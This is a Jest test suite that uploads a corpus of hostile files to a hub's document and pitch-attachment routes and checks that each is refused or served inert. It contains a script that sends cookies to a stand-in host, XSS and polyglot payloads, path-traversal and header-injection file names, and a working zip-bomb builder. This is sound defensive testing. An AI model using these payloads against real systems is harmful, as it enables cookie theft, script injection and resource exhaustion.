// A corpus of hostile files tried against both ways a file enters the hub: a member sharing a
// document in a group, and anyone attaching a file to a public pitch. Each file is either refused
// with a clear status and code (nothing stored), or accepted and then served inert: an attachment
// under a safe name, with nosniff, a sandboxing policy and never a type a browser would run.
import { randomUUID } from 'node:crypto';
import { mkdir, mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { ApiHarness } from './api-harness.js';
import { pdf, png, random, text, upload, type FilePart, type UploadResult } from './document-files.js';
import { dataOf, groupPersonas, type GroupPersonas } from './group-personas.js';

const LIMIT = 64 * 1024;
/** In every name of the corpus, so that a file written under the client's name would be found. */
const MARKER = `corpus-${randomUUID().slice(0, 8)}`;

const HTML = text(
  `<!doctype html><html><body><script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>`,
);
const SVG = text(
  `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>`,
);
const PIXEL_GIF = Buffer.from(
  '4749463839610100010080000000000000ffffff21f90401000000002c00000000010001000002024401003b',
  'hex',
);
/** A real GIF with a page after it: browsers that sniffed it as HTML would run the script. */
const GIF_THEN_HTML = Buffer.concat([
  PIXEL_GIF,
  text('<html><body><script>alert(document.domain)</script></body></html>'),
]);
/** Text that starts like a GIF (the classic `GIF89a=...` JavaScript polyglot): no real image. */
const GIF_TEXT_POLYGLOT = text(`GIF89a/*<html><script>*/=1;alert(document.domain)//</script></html>`);
/** A PDF whose first lines are also a web page. */
const PDF_THEN_HTML = Buffer.concat([
  text(`%PDF-1.4\n%<html><body><script>alert(document.domain)</script></body></html>\n`),
  pdf().subarray('%PDF-1.4\n'.length),
]);
const MARKDOWN_WITH_SCRIPT = text(
  `# Notes\n\n<script>alert(document.domain)</script>\n\n<img src=x onerror=alert(1)>\n\n[click me](javascript:alert(1))\n`,
);

/**
 * A zip of one entry that expands to `expanded` zero bytes (about a thousand times its size): a
 * server that unpacked it, or let a browser treat it as other than a download, would pay for it.
 */
function zipBomb(expanded: number): Buffer {
  const content = Buffer.alloc(expanded);
  const data = deflateRawSync(content, { level: 9 });
  const name = Buffer.from('zeros.bin');
  const sizes = (b: Buffer, at: number) => {
    b.writeUInt32LE(crc32(content), at);
    b.writeUInt32LE(data.length, at + 4);
    b.writeUInt32LE(expanded, at + 8);
    b.writeUInt16LE(name.length, at + 12);
  };
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  sizes(local, 14);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  sizes(central, 16);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(local.length + name.length + data.length, 16);
  return Buffer.concat([local, name, data, central, name, end]);
}
const ZIP_BOMB = zipBomb(32 * 1024 * 1024);

type Outcome = { refused: [status: number, reason: string] } | { served: string };
interface Sample {
  label: string;
  name: string;
  bytes: Buffer;
  outcome: Outcome;
}

const refused = (status: number, reason: string): Outcome => ({ refused: [status, reason] });
const served = (type: string): Outcome => ({ served: type });

const CORPUS: Sample[] = [
  // Pages and images that run script: refused by name, by the mismatch of name and bytes, or by type.
  {
    label: 'HTML with a script, named .html',
    name: `${MARKER}.html`,
    bytes: HTML,
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'HTML with a script, named .txt',
    name: `${MARKER}.txt`,
    bytes: HTML,
    outcome: refused(415, 'TYPE_MISMATCH'),
  },
  { label: 'HTML with a script, no extension', name: MARKER, bytes: HTML, outcome: refused(415, 'TYPE_NOT_ALLOWED') },
  { label: 'SVG with a script, named .svg', name: `${MARKER}.svg`, bytes: SVG, outcome: refused(400, 'BAD_FILE_NAME') },
  { label: 'SVG with a script, named .png', name: `${MARKER}.png`, bytes: SVG, outcome: refused(415, 'TYPE_MISMATCH') },
  { label: 'SVG with a script, no extension', name: MARKER, bytes: SVG, outcome: refused(415, 'TYPE_NOT_ALLOWED') },
  // Polyglots: what the bytes really are decides, and it is served as that, never as a page.
  { label: 'a GIF followed by a page', name: `${MARKER}.gif`, bytes: GIF_THEN_HTML, outcome: served('image/gif') },
  {
    label: 'text posing as a GIF (GIF89a polyglot)',
    name: `${MARKER}.gif`,
    bytes: GIF_TEXT_POLYGLOT,
    outcome: refused(415, 'TYPE_MISMATCH'),
  },
  {
    label: 'a PDF that is also a page',
    name: `${MARKER}.pdf`,
    bytes: PDF_THEN_HTML,
    outcome: served('application/pdf'),
  },
  {
    label: 'a PDF that is also a page, named .html',
    name: `${MARKER}.html`,
    bytes: PDF_THEN_HTML,
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'Markdown with a script, an event handler and a javascript: link',
    name: `${MARKER}.md`,
    bytes: MARKDOWN_WITH_SCRIPT,
    outcome: served('text/markdown'),
  },
  {
    label: 'plain text with a script in it',
    name: `${MARKER}.txt`,
    bytes: text(`Hello\n<script>alert(document.domain)</script>\n`),
    outcome: served('text/plain'),
  },
  // Names that lie about the bytes.
  { label: 'PNG bytes named .pdf', name: `${MARKER}.pdf`, bytes: png(), outcome: refused(415, 'TYPE_MISMATCH') },
  { label: 'HTML bytes named .png', name: `${MARKER}.png`, bytes: HTML, outcome: refused(415, 'TYPE_MISMATCH') },
  // Names that try to be paths, headers or disguises.
  {
    label: 'a name climbing with ../',
    name: `../../${MARKER}.pdf`,
    bytes: pdf(),
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'a name climbing with ..\\',
    name: `..\\..\\${MARKER}.pdf`,
    bytes: pdf(),
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  { label: 'an absolute POSIX path', name: `/tmp/${MARKER}.pdf`, bytes: pdf(), outcome: refused(400, 'BAD_FILE_NAME') },
  {
    label: 'an absolute Windows path',
    name: `C:\\Windows\\Temp\\${MARKER}.pdf`,
    bytes: pdf(),
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'a name with CR LF (header injection)',
    name: `${MARKER}\r\nContent-Type: text/html\r\n.pdf`,
    bytes: pdf(),
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'a name with a NUL byte',
    name: `${MARKER}.pdf\u0000.html`,
    bytes: pdf(),
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'a name with a right-to-left override',
    name: `${MARKER}\u202Efdp.exe`,
    bytes: pdf(),
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'a name of 300 characters',
    name: `${MARKER}${'a'.repeat(300)}.pdf`,
    bytes: pdf(),
    outcome: refused(400, 'BAD_FILE_NAME'),
  },
  {
    label: 'a name with quotes, a semicolon, a percent sign and an accent',
    name: `${MARKER} "final"; v=2 %41 ü.pdf`,
    bytes: pdf(),
    outcome: served('application/pdf'),
  },
  // Sizes.
  { label: 'zero bytes', name: `${MARKER}.pdf`, bytes: Buffer.alloc(0), outcome: refused(400, 'FILE_EMPTY') },
  {
    label: 'one byte over the limit',
    name: `${MARKER}.pdf`,
    bytes: Buffer.concat([pdf(), random(LIMIT + 1 - pdf().length)]),
    outcome: refused(413, 'FILE_TOO_LARGE'),
  },
  // Archives: zip is an allowed type, so a bomb is stored and served exactly as sent, never unpacked.
  {
    label: 'a zip bomb (32 MB of zeros in ~32 KB)',
    name: `${MARKER}.zip`,
    bytes: ZIP_BOMB,
    outcome: served('application/zip'),
  },
];

/** An accepted upload as the hub then shows and serves it. */
interface Served {
  /** The file name the API shows (GraphQL). */
  shownName: string;
  download: Response;
  /** The same file asked for `?disposition=inline`, where the route offers it. */
  inline: Response | null;
  /** A rendered preview the hub shows, where it makes one (Markdown). */
  previewHtml: string | null;
}

type RouteName = 'documents' | 'pitches';
const ROUTES: [label: string, name: RouteName][] = [
  ['a group document (as a member)', 'documents'],
  ['a public pitch attachment (no account)', 'pitches'],
];

interface Route {
  upload(part: FilePart): Promise<UploadResult>;
  /** How many uploads this route has recorded, to show that a refused one recorded nothing. */
  recorded(): Promise<number>;
  serve(result: UploadResult): Promise<Served>;
}

const DOCUMENT = `query D($id: ID!) { document(id: $id) { title contentType size previewKind versions { fileName downloadUrl } textPreview { html } } }`;
const SAVE_FORM = `mutation S($input: SavePitchFormInput!) { savePitchForm(input: $input) { id } }`;
const SUBMIT = `mutation P($input: SubmitPitchInput!) { submitPitch(input: $input) { message } }`;
const PITCH = `query P($id: ID!) { pitch(id: $id) { attachments { id fileName downloadUrl } } }`;

describe('the upload corpus', () => {
  let api: ApiHarness;
  /** The storage's data directory sits deep inside `root`, so that a name climbing out of it still lands in `root`. */
  let root: string;
  let dataDir: string;
  let routes: Record<RouteName, Route>;
  const sql = <T>(query: string, params: unknown[] = []) =>
    api.orm.em.fork().getConnection().execute<T[]>(query, params);

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'convene-corpus-'));
    dataDir = join(root, 'srv', 'convene', 'data');
    await mkdir(dataDir, { recursive: true });
    api = await ApiHarness.start({ DOCUMENT_MAX_BYTES: String(LIMIT), DATA_DIR: dataDir, WEB_DIST_DIR: '' });
    const w = await groupPersonas(api);
    routes = { documents: await documentsRoute(w), pitches: await pitchesRoute(w) };
  });
  afterAll(async () => {
    await api.stop();
    await rm(root, { recursive: true, force: true });
  });

  /** Every file under `root`, relative to it. */
  async function filesOnDisk(): Promise<string[]> {
    const walk = async (dir: string): Promise<string[]> => {
      const entries = await readdir(dir, { withFileTypes: true }).catch(() => []);
      const nested = await Promise.all(
        entries.map((e) => (e.isDirectory() ? walk(join(dir, e.name)) : [join(dir, e.name)])),
      );
      return nested.flat();
    };
    return (await walk(root)).map((path) => relative(root, path)).sort();
  }

  /** Files are only ever stored under server-made keys in the storage's objects directory, none named after an upload. */
  async function expectOnlyStorageKeys(): Promise<string[]> {
    const files = await filesOnDisk();
    for (const file of files)
      expect(file).toMatch(/^srv\/convene\/data\/objects\/[0-9a-f]{2}\/[0-9a-f]{2}\/[0-9a-f]{32}$/);
    // Not even where a name taken as a path would have put it: the system's temporary directory
    // (the absolute names point there) or the server's working directory.
    const elsewhere = [...(await readdir(tmpdir())), ...(await readdir(process.cwd()))];
    expect([...files, ...elsewhere].join('\n')).not.toContain(MARKER);
    return files;
  }

  /** Sharing a document in a group, as one of its members; served to that member. */
  async function documentsRoute(w: GroupPersonas): Promise<Route> {
    const member = await w.as('member');
    return {
      upload: (part) => upload(api.url, member, `/api/groups/${w.group.id}/documents`, [part]),
      recorded: async () =>
        (
          await sql<{ n: number }>(
            'select count(*)::int as n from document_versions v join documents d on d.id = v.document_id where d.group_id = ?',
            [w.group.id],
          )
        )[0]!.n,
      async serve(result) {
        const id = result.json.document!.id;
        const document = dataOf(
          await member.request<{
            document: {
              title: string;
              versions: { fileName: string; downloadUrl: string }[];
              textPreview: { html: string | null } | null;
            };
          }>(DOCUMENT, { id }),
        ).document;
        const [version] = document.versions;
        // The title starts as the file's name: it must not carry a path either.
        expect(document.title).not.toMatch(/[/\\]/);
        return {
          shownName: version!.fileName,
          download: await member.get(version!.downloadUrl),
          inline: await member.get(`/api/documents/${id}/content?disposition=inline`),
          previewHtml: document.textPreview?.html ?? null,
        };
      },
    };
  }

  /** Attaching a file on the public pitch form, with no account; served to the group's convenor once pitched. */
  async function pitchesRoute(w: GroupPersonas): Promise<Route> {
    const formSlug = `corpus-${randomUUID().slice(0, 8)}`;
    const form = {
      slug: formSlug,
      title: 'Pitch us an idea',
      consentText: 'We use your details only to discuss your pitch.',
      fields: [],
    };
    dataOf(await (await w.as('admin')).request(SAVE_FORM, { input: form }));
    const convenor = await w.as('convenor');
    return {
      // Each from its own address, as strangers on the public form would be.
      upload: (part) => upload(api.url, api.client(), '/api/pitch-attachments', [part]),
      recorded: async () => (await sql<{ n: number }>('select count(*)::int as n from pitch_attachments'))[0]!.n,
      async serve(result) {
        const file = result.json as unknown as { id: string; claim: string };
        const title = `Corpus pitch ${randomUUID().slice(0, 8)}`;
        const input = {
          formSlug,
          organisationName: 'Corpus Collective',
          organisationType: 'COMMUNITY_ORGANISATION',
          contactName: 'Cas Corpus',
          contactEmail: `corpus-${randomUUID().slice(0, 12)}@example.org`,
          title,
          summary: 'A file to look at.',
          helpWanted: 'Open the attachment.',
          groupIds: [w.group.id],
          consent: true,
          attachments: [{ id: file.id, claim: file.claim }],
        };
        dataOf(await api.client().request(SUBMIT, { input }));
        const [pitch] = await sql<{ id: string }>('select id from pitches where title = ?', [title]);
        const [attachment] = dataOf(
          await convenor.request<{ pitch: { attachments: { fileName: string; downloadUrl: string }[] } }>(PITCH, {
            id: pitch!.id,
          }),
        ).pitch.attachments;
        return {
          shownName: attachment!.fileName,
          download: await convenor.get(attachment!.downloadUrl),
          inline: null,
          previewHtml: null,
        };
      },
    };
  }

  /** A download a browser can only save: the exact bytes, as an attachment, under a safe name. */
  async function expectInert(res: Response, sample: Sample, type: string) {
    expect(res.status).toBe(200);
    // Byte for byte what was sent: nothing unpacked, rewritten or cut.
    expect(Buffer.from(await res.arrayBuffer()).equals(sample.bytes)).toBe(true);
    const contentType = res.headers.get('content-type') ?? '';
    expect(contentType.split(';')[0]).toBe(type);
    expect(contentType).not.toMatch(/html|svg|xml|javascript/i);
    const disposition = res.headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(/^attachment; filename="[^"]*"; filename\*=UTF-8''[^\s;"]+$/);
    // The ASCII fallback: no path parts, quotes, escapes or control characters.
    expect(/filename="([^"]*)"/.exec(disposition)![1]).toMatch(/^[\x20-\x7e]+$/);
    expect(/filename="([^"]*)"/.exec(disposition)![1]).not.toMatch(/[/\\"%]/);
    // The exact name, for current browsers, is the name as uploaded.
    expect(decodeURIComponent(/filename\*=UTF-8''(\S+)$/.exec(disposition)![1]!)).toBe(sample.name);
    expectSandboxed(res);
  }
  function expectSandboxed(res: Response) {
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(csp).toContain("frame-ancestors 'none'");
  }

  describe.each(ROUTES)('through %s', (_label, name) => {
    it.each(CORPUS.map((sample) => [sample.label, sample] as const))('%s', async (_sample, sample) => {
      const route = routes[name];
      const before = await expectOnlyStorageKeys();
      const recorded = await route.recorded();
      const result = await route.upload({ name: sample.name, bytes: sample.bytes, type: 'application/octet-stream' });

      if ('refused' in sample.outcome) {
        const [status, reason] = sample.outcome.refused;
        expect([result.status, result.json.error?.code, result.json.error?.reason]).toEqual([
          status,
          'BAD_USER_INPUT',
          reason,
        ]);
        expect(result.json.error?.message).toEqual(expect.any(String));
        expect(JSON.stringify(result.json)).not.toMatch(/\bat [\w$.<>]+ \(|node_modules/);
        // Nothing recorded, nothing left on disk.
        expect(await route.recorded()).toBe(recorded);
        expect(await expectOnlyStorageKeys()).toEqual(before);
        return;
      }

      expect(result.status).toBe(201);
      expect(await route.recorded()).toBe(recorded + 1);
      // One new object, under a server-made key; nothing named after the upload anywhere.
      const after = await expectOnlyStorageKeys();
      expect(after.filter((f) => !before.includes(f))).toHaveLength(1);

      const shown = await route.serve(result);
      expect(shown.shownName).toBe(sample.name);
      expect(shown.shownName).not.toMatch(/[/\\]|\.\./);
      await expectInert(shown.download, sample, sample.outcome.served);
      if (shown.inline) {
        // Asked for in place, the file is still never a page: only images, PDF and plain text
        // are shown inline at all (Markdown and the rest stay attachments), always in the sandbox.
        expect(shown.inline.headers.get('content-type')).not.toMatch(/html|svg|xml|javascript/i);
        expect(shown.inline.headers.get('content-disposition')).toMatch(
          ['image/gif', 'application/pdf', 'text/plain'].includes(sample.outcome.served) ? /^inline;/ : /^attachment;/,
        );
        expectSandboxed(shown.inline);
      }
      if (shown.previewHtml !== null) {
        // The rendered Markdown keeps the words; the raw HTML in it is shown as text, not markup.
        expect(shown.previewHtml).toContain('<h1 dir="auto">Notes</h1>');
        expect(shown.previewHtml).toContain('&lt;script&gt;');
        expect(shown.previewHtml).not.toMatch(/<script|<img|<[^>]*\son\w+\s*=|href\s*=\s*["']?\s*javascript:/i);
      }
    });
  });
});
